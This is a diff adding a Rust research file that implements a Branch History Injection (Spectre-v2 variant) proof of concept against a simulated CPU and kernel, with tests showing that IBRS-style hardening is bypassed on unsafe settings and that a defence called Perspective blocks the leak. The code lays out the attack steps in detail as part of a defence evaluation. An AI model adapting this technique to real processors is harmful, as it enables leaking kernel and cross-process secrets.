@@ -1,0 +1,230 @@
+//! Branch History Injection PoC (Table 4.1 row 5): bypassing
+//! eIBRS-style BTB hardening.
+//!
+//! With the BTB in [`BtbMode::Ibrs`], entries are privilege-tagged and
+//! the index/tag mix in the global branch history: the classic Spectre v2
+//! injection (a user-mode jump at an aliasing address) no longer serves
+//! kernel predictions — demonstrated by
+//! [`plain_v2_fails_under_ibrs`]. But the *history register itself* is
+//! attacker-controlled across the user→kernel transition. The attacker:
+//!
+//! 1. lets the kernel install a legitimate BTB entry for an ops-table
+//!    handler that happens to be a *dispatch gadget* (it dereferences the
+//!    first syscall-argument register — speculative type confusion);
+//! 2. searches offline for a branch-history value under which the syscall
+//!    dispatch's BTB lookup collides with that kernel entry (the BHB
+//!    brute-force of the real PoC, here via
+//!    [`Btb::find_colliding_history`](persp_uarch::predictor::Btb::find_colliding_history));
+//! 3. executes a user-mode branch sequence encoding that history, puts a
+//!    victim pointer in `r10`, and issues a syscall: the dispatch
+//!    speculatively enters the gadget, dereferencing the victim's secret.
+//!
+//! In the paper's taxonomy this is an **active** attack (the attacker's
+//! own kernel thread leaks foreign data), so Perspective stops it with
+//! **DSVs** — even though the hijacked handler is a perfectly legitimate
+//! kernel function.
+
+use crate::lab::{AttackLab, Scheme};
+use persp_kernel::body::DISPATCH_CALL_VA;
+use persp_kernel::callgraph::KernelConfig;
+use persp_kernel::layout::SYSCALL_TABLE;
+use persp_kernel::syscalls::Sysno;
+use persp_uarch::config::CoreConfig;
+use persp_uarch::isa::{Assembler, Cond, Inst, REG_ARG0, REG_ARG1, REG_ARG2, REG_SYSNO};
+use persp_uarch::predictor::BtbMode;
+use perspective::taxonomy::AttackOutcome;
+
+const PROBE_STRIDE: u64 = 4096;
+/// History bits the attack encodes with user-mode branches (the BTB folds
+/// 44 bits; the colliding values the search returns fit in 22).
+const HISTORY_BITS: u64 = 44;
+
+/// Report of one BHI run.
+#[derive(Debug)]
+pub struct BhiReport {
+    /// Scheme under test.
+    pub scheme: Scheme,
+    /// Outcome.
+    pub outcome: AttackOutcome,
+    /// Hot kernel-probe lines after the attack.
+    pub hot_lines: Vec<u8>,
+}
+
+fn ibrs_core_config() -> CoreConfig {
+    CoreConfig {
+        btb_mode: BtbMode::Ibrs,
+        ..CoreConfig::paper_default()
+    }
+}
+
+/// Sanity arm: under IBRS, the classic aliased-install injection no
+/// longer reaches kernel predictions.
+pub fn plain_v2_fails_under_ibrs(kcfg: KernelConfig) -> bool {
+    let mut lab =
+        AttackLab::with_core_config(Scheme::Unsafe, kcfg, &[Sysno::Getpid], ibrs_core_config());
+    let gadget_va = lab.kernel.borrow().graph.passive_target.expect("target").0;
+    let gadget_va = lab.kernel.borrow().graph.func(gadget_va).entry_va;
+    let hist = lab.core.pred.hist;
+    let alias = lab.core.pred.btb.aliasing_pc(DISPATCH_CALL_VA);
+    lab.core.pred.btb.install(alias, hist, gadget_va, false); // user install
+    lab.core.pred.btb.predict(DISPATCH_CALL_VA, hist, true) != Some(gadget_va)
+}
+
+/// The attacker program: encode the colliding history with a straight
+/// line of always/never-taken branches, load the victim pointer into
+/// `r10`, and fire the syscall.
+fn bhi_program(base: u64, history: u64, victim_ptr: u64) -> Vec<(u64, Inst)> {
+    let mut asm = Assembler::new(base);
+    // Oldest history bit first: the global history register shifts the
+    // newest outcome into bit 0.
+    for bit in (0..HISTORY_BITS).rev() {
+        let next = asm.new_label();
+        if history >> bit & 1 == 1 {
+            asm.branch(Cond::Eq, 0, 0, next); // always taken
+        } else {
+            asm.branch(Cond::Ne, 0, 0, next); // never taken
+        }
+        asm.bind(next);
+    }
+    asm.movi(REG_ARG0, victim_ptr);
+    asm.movi(REG_SYSNO, Sysno::Getpid as u16 as u64);
+    asm.push(Inst::Syscall);
+    asm.push(Inst::Halt);
+    asm.finish()
+}
+
+/// Run the full BHI attack against `scheme` (always on IBRS-hardened
+/// hardware — the point is bypassing that hardening).
+pub fn run_bhi(scheme: Scheme, kcfg: KernelConfig, secret: u8) -> BhiReport {
+    let mut lab = AttackLab::with_core_config(
+        scheme,
+        kcfg,
+        &[Sysno::Getpid, Sysno::Read],
+        ibrs_core_config(),
+    );
+    let (handler, kprobe_base) = lab
+        .kernel
+        .borrow()
+        .graph
+        .bhi_target
+        .expect("kernel has a BHI handler");
+    let handler_va = lab.kernel.borrow().graph.func(handler).entry_va;
+
+    lab.plant_victim_secret(secret);
+    let secret_va = lab.victim_secret_va();
+
+    // Step 1: ordinary kernel activity installs the handler's BTB entry
+    // (the victim's write path legitimately calls it through the ops
+    // table; the attacker itself never invokes write).
+    let vbase = lab.user_text(lab.victim);
+    let mut warm = Assembler::new(vbase);
+    for _ in 0..4 {
+        warm.movi(REG_ARG0, 3); // fd: the handler's benign argument
+        warm.movi(REG_ARG1, lab.user_data(lab.victim) + 0x2000);
+        warm.movi(REG_ARG2, 4);
+        warm.movi(REG_SYSNO, Sysno::Write as u16 as u64);
+        warm.push(Inst::Syscall);
+    }
+    warm.push(Inst::Halt);
+    lab.core.machine.load_text(warm.finish());
+    lab.run_as(lab.victim, vbase, 3_000_000)
+        .expect("victim warmup");
+
+    // Step 2: the offline BHB search.
+    let Some(history) = lab
+        .core
+        .pred
+        .btb
+        .find_colliding_history(DISPATCH_CALL_VA, handler_va)
+    else {
+        return BhiReport {
+            scheme,
+            outcome: AttackOutcome::Inconclusive,
+            hot_lines: Vec::new(),
+        };
+    };
+
+    // Step 3: fire, over a few rounds (early shots warm the handler's
+    // instruction lines; the dispatch-table line is evicted each round to
+    // widen the window, and the victim's secret line is hot because the
+    // victim is actively using it).
+    for i in 0..256u64 {
+        lab.core.mem.flush(kprobe_base + i * PROBE_STRIDE);
+    }
+    let abase = lab.user_text(lab.attacker);
+    lab.core
+        .machine
+        .load_text(bhi_program(abase, history, secret_va));
+    for _round in 0..4 {
+        lab.core
+            .mem
+            .flush(SYSCALL_TABLE + (Sysno::Getpid as u16 as u64) * 8);
+        lab.core.mem.read(secret_va);
+        lab.run_as(lab.attacker, abase, 3_000_000)
+            .expect("attack syscall");
+    }
+
+    let hot: Vec<u8> = (0..256u64)
+        .filter(|&i| lab.core.mem.probe_any(kprobe_base + i * PROBE_STRIDE))
+        .map(|i| i as u8)
+        .collect();
+    let outcome = if hot.contains(&secret) {
+        AttackOutcome::Leaked {
+            recovered: secret,
+            expected: secret,
+        }
+    } else if hot.is_empty() {
+        AttackOutcome::Blocked
+    } else {
+        AttackOutcome::Inconclusive
+    };
+    BhiReport {
+        scheme,
+        outcome,
+        hot_lines: hot,
+    }
+}
+
+/// Differential verdict over two secrets.
+pub fn bhi_succeeds(scheme: Scheme, kcfg: KernelConfig) -> bool {
+    let r1 = run_bhi(scheme, kcfg, 0x4D);
+    let r2 = run_bhi(scheme, kcfg, 0xB2);
+    r1.hot_lines.contains(&0x4D) && r2.hot_lines.contains(&0xB2)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kcfg() -> KernelConfig {
+        KernelConfig::test_small()
+    }
+
+    #[test]
+    fn ibrs_stops_the_classic_injection() {
+        assert!(plain_v2_fails_under_ibrs(kcfg()));
+    }
+
+    #[test]
+    fn bhi_bypasses_ibrs_on_unsafe_hardware() {
+        assert!(
+            bhi_succeeds(Scheme::Unsafe, kcfg()),
+            "history injection must reach the dispatch gadget"
+        );
+    }
+
+    #[test]
+    fn perspective_dsv_blocks_bhi() {
+        // The hijacked handler is legitimate kernel code, but the
+        // transient dereference targets *foreign* data: an active attack,
+        // stopped by DSVs (taxonomy-rooted, variant-agnostic — §8.1).
+        let r = run_bhi(Scheme::Perspective, kcfg(), 0x4D);
+        assert!(!r.hot_lines.contains(&0x4D), "hot: {:?}", r.hot_lines);
+        assert!(!bhi_succeeds(Scheme::Perspective, kcfg()));
+    }
+
+    #[test]
+    fn fence_blocks_bhi_too() {
+        assert!(!bhi_succeeds(Scheme::Fence, kcfg()));
+    }
+}
